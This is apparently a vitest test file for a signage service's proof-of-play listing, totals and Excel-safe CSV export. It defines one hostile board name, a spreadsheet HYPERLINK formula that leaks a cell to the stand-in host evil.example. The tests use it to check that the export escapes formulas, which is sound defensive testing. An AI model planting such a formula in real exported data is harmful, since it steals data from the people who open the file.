import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PlayUpload } from '../src/shared/play';
import type { NamedPlay, PlayTotal } from '../src/shared/play-report';
import { PlayReportRepository } from './repositories/play-reports';
import { ADMIN_SECRET, startTestService, type TestService } from './test-support';
import { FakeClock } from './testing/fake-clock';
import { multipart } from './testing/multipart';
import { solidPng } from './testing/png';

// The fleet's proof of play (GET /plays, GET /plays/totals): filters, names, totals, CSV, scope.
// On PostgreSQL too: `bash .ci/with-postgres.sh npx vitest run --project node <this file>`.
let service: TestService;
const clock = new FakeClock('2026-11-22T12:00:00.000Z');
/** A board's name a spreadsheet would run as a formula. */
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
let board = '';
let hostile = '';
let media = '';
let group = '';
const WEB = 'https://news.example/today';

function play(
  start: string,
  seconds: number,
  item: { board?: string; url?: string; type?: PlayUpload['type'] },
) {
  const started = Date.parse(start);
  return {
    id: randomUUID(),
    type: item.type ?? (item.board ? 'board' : 'image'),
    board_id: item.board ?? null,
    url: item.url ?? null,
    channel_id: null,
    started_at: new Date(started).toISOString(),
    ended_at: new Date(started + seconds * 1000).toISOString(),
  } satisfies PlayUpload;
}

async function upload(tag: string, plays: PlayUpload[]): Promise<void> {
  const response = await service.call('POST', `/devices/${tag}/plays`, plays);
  expect(response.json(), response.body).toEqual({ received: plays.length, stored: plays.length });
}

async function get<T>(path: string, token = ADMIN_SECRET): Promise<T> {
  const response = await service.call('GET', path, undefined, token);
  expect(response.statusCode, response.body).toBe(200);
  return response.json();
}

const DAY1 = 'from=2026-11-20T00:00:00Z&to=2026-11-21T00:00:00Z';
const BOTH = 'from=2026-11-20T00:00:00Z&to=2026-11-22T00:00:00Z';

beforeAll(async () => {
  service = await startTestService({ clock });
  board = (await service.call('POST', '/boards', { name: 'Lunch menu' })).json<{ id: string }>().id;
  hostile = (await service.call('POST', '/boards', { name: HOSTILE })).json<{ id: string }>().id;
  group = (await service.call('POST', '/groups', { name: 'Ground floor' })).json<{ id: string }>().id;
  const body = multipart([
    { name: 'file', filename: 'Café poster.png', type: 'image/png', content: solidPng(2, 2) },
  ]);
  const uploaded = await service.app.inject({
    method: 'POST',
    url: '/media',
    headers: { ...body.headers, authorization: `Bearer ${ADMIN_SECRET}` },
    payload: body.payload,
  });
  media = uploaded.json<{ id: string }>().id;
  await service.call('POST', '/devices', { tag: 'lobby', name: 'Lobby TV', group_id: group });
  await service.call('POST', '/devices', { tag: 'kitchen', name: 'Kitchen' });
  const poster = `/media/${media}/content`;
  await upload('lobby', [
    play('2026-11-20T08:00:00Z', 10, { board }),
    play('2026-11-20T08:00:10Z', 12.5, { url: poster }),
    play('2026-11-20T09:00:00Z', 10, { board }),
    play('2026-11-20T23:59:59Z', 1, { url: WEB, type: 'web' }),
    play('2026-11-21T07:00:00Z', 10, { board }),
  ]);
  await upload('kitchen', [
    play('2026-11-20T08:00:00Z', 10, { board }),
    play('2026-11-20T10:00:00Z', 30, { board: hostile }),
    play('2026-11-21T06:00:00Z', 20, { url: poster }),
  ]);
});
afterAll(() => service.close());

describe('GET /plays', () => {
  it("lists every screen's plays, oldest first, with the names beside the ids", async () => {
    const plays = await get<NamedPlay[]>(`/plays?${DAY1}`);
    expect(plays.map((p) => `${p.device_tag} ${p.started_at.slice(11, 19)}`).sort()).toEqual([
      'kitchen 08:00:00',
      'kitchen 10:00:00',
      'lobby 08:00:00',
      'lobby 08:00:10',
      'lobby 09:00:00',
      'lobby 23:59:59',
    ]);
    // By start, then id (two plays started at 08:00:00).
    const keys = plays.map((p) => `${p.started_at} ${p.id}`);
    expect(keys).toEqual([...keys].sort());
    const poster = plays.find((p) => p.type === 'image');
    expect(poster).toMatchObject({
      device_tag: 'lobby',
      device_name: 'Lobby TV',
      group_id: group,
      group_name: 'Ground floor',
      board_id: null,
      board_name: null,
      url: `/media/${media}/content`,
      media_id: media,
      media_name: 'Café poster.png',
      seconds: 12.5,
    });
    expect(plays.find((p) => p.device_tag === 'kitchen')).toMatchObject({
      device_name: 'Kitchen',
      group_id: null,
      group_name: null,
      board_id: board,
      board_name: 'Lunch menu',
      media_id: null,
      media_name: null,
    });
  });

  it('keeps to the filters: screen, group, board, URL, range and limit', async () => {
    const tags = async (query: string) =>
      (await get<NamedPlay[]>(`/plays?${BOTH}&${query}`)).map(
        (p) => `${p.device_tag} ${p.started_at.slice(5, 16)}`,
      );
    expect(await tags('device_tag=kitchen')).toEqual([
      'kitchen 11-20T08:00',
      'kitchen 11-20T10:00',
      'kitchen 11-21T06:00',
    ]);
    expect(await tags(`group_id=${group}`)).toHaveLength(5);
    expect((await tags(`board_id=${board}`)).sort()).toEqual([
      'kitchen 11-20T08:00',
      'lobby 11-20T08:00',
      'lobby 11-20T09:00',
      'lobby 11-21T07:00',
    ]);
    expect(await tags(`url=${encodeURIComponent(`/media/${media}/content`)}`)).toEqual([
      'lobby 11-20T08:00',
      'kitchen 11-21T06:00',
    ]);
    expect(await tags(`url=${encodeURIComponent(WEB)}&device_tag=lobby`)).toEqual(['lobby 11-20T23:59']);
    expect(await tags('device_tag=nobody')).toEqual([]);
    expect(await tags('limit=2')).toHaveLength(2);
    // The default range is the day before now (the clock's 2026-11-22T12:00).
    expect(await get<NamedPlay[]>('/plays')).toEqual([]);
    const bad = await service.call('GET', '/plays?from=2026-11-21T00:00:00Z&to=2026-11-20T00:00:00Z');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.details[0]).toMatchObject({ path: 'querystring.from' });
  });

  it('reads every play once across pages, plays of one instant included', async () => {
    const all = await get<NamedPlay[]>(`/plays?${BOTH}`);
    const reports = new PlayReportRepository(service.db);
    const filters = { from: new Date('2026-11-20T00:00:00Z'), to: new Date('2026-11-22T00:00:00Z') };
    for (const [size, limit] of [
      [1, 100],
      [2, 100],
      [3, 5],
    ] as const) {
      const pages: NamedPlay[][] = [];
      for await (const page of reports.pages(filters, limit, size)) pages.push(page);
      expect(pages.every((page) => page.length <= size)).toBe(true);
      expect(pages.flat().map((p) => p.id)).toEqual(all.slice(0, limit).map((p) => p.id));
    }
  });

  it('answers a CSV with the names, Excel-safe: a byte order mark, CRLF, no formula', async () => {
    const response = await service.call('GET', `/plays?${DAY1}&format=csv`);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="plays-2026-11-20-to-2026-11-21.csv"',
    );
    expect(response.body.startsWith('\uFEFFid,device_tag,device_name,group_id,group_name,type,')).toBe(true);
    const lines = response.body.split('\r\n');
    expect(lines).toHaveLength(8); // the header, six plays, the final line break
    const row = lines.find((line) => line.includes(hostile));
    // Quoted (it holds quotes and a comma), its quotes doubled, and made text by the leading '.
    expect(row).toContain(`,${hostile},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",`);
    expect(response.body).toContain(',Café poster.png,');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });
});

describe('GET /plays/totals', () => {
  it('adds up the plays per item per day: plays, seconds, screens, by day then name', async () => {
    const totals = await get<PlayTotal[]>(`/plays/totals?${BOTH}&by=day`);
    expect(totals).toEqual(
      [
        {
          day: '2026-11-20',
          type: 'medium',
          item_id: media,
          url: `/media/${media}/content`,
          name: 'Café poster.png',
          plays: 1,
          seconds: 12.5,
          screens: 1,
        },
        {
          day: '2026-11-20',
          type: 'web',
          item_id: null,
          url: WEB,
          name: WEB,
          plays: 1,
          seconds: 1,
          screens: 1,
        },
        {
          day: '2026-11-20',
          type: 'board',
          item_id: board,
          url: null,
          name: 'Lunch menu',
          plays: 3,
          seconds: 30,
          screens: 2,
        },
        {
          day: '2026-11-20',
          type: 'board',
          item_id: hostile,
          url: null,
          name: HOSTILE,
          plays: 1,
          seconds: 30,
          screens: 1,
        },
        {
          day: '2026-11-21',
          type: 'medium',
          item_id: media,
          url: `/media/${media}/content`,
          name: 'Café poster.png',
          plays: 1,
          seconds: 20,
          screens: 1,
        },
        {
          day: '2026-11-21',
          type: 'board',
          item_id: board,
          url: null,
          name: 'Lunch menu',
          plays: 1,
          seconds: 10,
          screens: 1,
        },
      ].sort((a, b) => (a.day < b.day ? -1 : a.day > b.day ? 1 : a.name.localeCompare(b.name))),
    );
    const lobby = await get<PlayTotal[]>(`/plays/totals?${BOTH}&device_tag=lobby&board_id=${board}`);
    expect(lobby.map((t) => [t.day, t.plays, t.seconds, t.screens])).toEqual([
      ['2026-11-20', 2, 20, 1],
      ['2026-11-21', 1, 10, 1],
    ]);
  });

  it("counts days in the zone asked for: Paris's 21st starts at 23:00 UTC on the 20th", async () => {
    const totals = await get<PlayTotal[]>(`/plays/totals?${BOTH}&time_zone=Europe/Paris`);
    const web = totals.find((t) => t.type === 'web');
    expect(web?.day).toBe('2026-11-21');
    expect(
      totals.filter((t) => t.type === 'board' && t.item_id === board).map((t) => [t.day, t.plays]),
    ).toEqual([
      ['2026-11-20', 3],
      ['2026-11-21', 1],
    ]);
    const bad = await service.call('GET', `/plays/totals?${BOTH}&time_zone=Mars/Olympus`);
    expect(bad.statusCode).toBe(400);
    const long = await service.call('GET', '/plays/totals?from=2024-01-01T00:00:00Z&to=2026-01-01T00:00:00Z');
    expect(long.statusCode).toBe(400);
  });

  it('answers the totals as an Excel-safe CSV', async () => {
    const response = await service.call('GET', `/plays/totals?${BOTH}`, undefined, ADMIN_SECRET);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    const csv = await service.app.inject({
      method: 'GET',
      url: `/plays/totals?${BOTH}`,
      headers: { authorization: `Bearer ${ADMIN_SECRET}`, accept: 'text/csv' },
    });
    expect(csv.headers['content-disposition']).toBe(
      'attachment; filename="play-totals-2026-11-20-to-2026-11-22.csv"',
    );
    const lines = csv.body.split('\r\n');
    expect(lines[0]).toBe('\uFEFFday,type,item_id,url,name,plays,seconds,screens');
    expect(lines).toContain(`2026-11-20,board,${board},,Lunch menu,3,30,2`);
    expect(lines).toContain(
      `2026-11-20,board,${hostile},,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",1,30,1`,
    );
  });
});

describe('who sees what', () => {
  it("shows a token bound to a screen that screen's plays alone", async () => {
    const response = await service.call('POST', '/account/tokens', {
      scope: 'affiliated',
      name: 'lobby only',
      device_tag: 'lobby',
    });
    expect(response.statusCode, response.body).toBe(201);
    const token = response.json<{ token: string }>().token;
    const plays = await get<NamedPlay[]>(`/plays?${BOTH}`, token);
    expect(new Set(plays.map((p) => p.device_tag))).toEqual(new Set(['lobby']));
    expect(await get<NamedPlay[]>(`/plays?${BOTH}&device_tag=kitchen`, token)).toEqual([]);
    const totals = await get<PlayTotal[]>(`/plays/totals?${BOTH}`, token);
    expect(totals.reduce((sum, t) => sum + t.plays, 0)).toBe(5);
    expect(totals.every((t) => t.screens === 1)).toBe(true);
  });

  it('shows another account none of these plays, and counts its own alone', async () => {
    const other = await service.addAccount('Other');
    expect((await other.call('POST', '/devices', { tag: 'lobby' })).statusCode).toBe(201);
    const theirs = [play('2026-11-20T08:00:00Z', 5, { url: WEB, type: 'web' })];
    expect((await other.call('POST', '/devices/lobby/plays', theirs)).statusCode).toBe(200);
    const plays = (await other.call('GET', `/plays?${BOTH}`)).json<NamedPlay[]>();
    expect(plays.map((p) => p.id)).toEqual([theirs[0]!.id]);
    const totals = (await other.call('GET', `/plays/totals?${BOTH}`)).json<PlayTotal[]>();
    expect(totals).toEqual([
      {
        day: '2026-11-20',
        type: 'web',
        item_id: null,
        url: WEB,
        name: WEB,
        plays: 1,
        seconds: 5,
        screens: 1,
      },
    ]);
    // Ours are unchanged by theirs.
    const ours = await get<PlayTotal[]>(`/plays/totals?${BOTH}&url=${encodeURIComponent(WEB)}`);
    expect(ours.map((t) => [t.plays, t.seconds])).toEqual([[1, 1]]);
  });
});
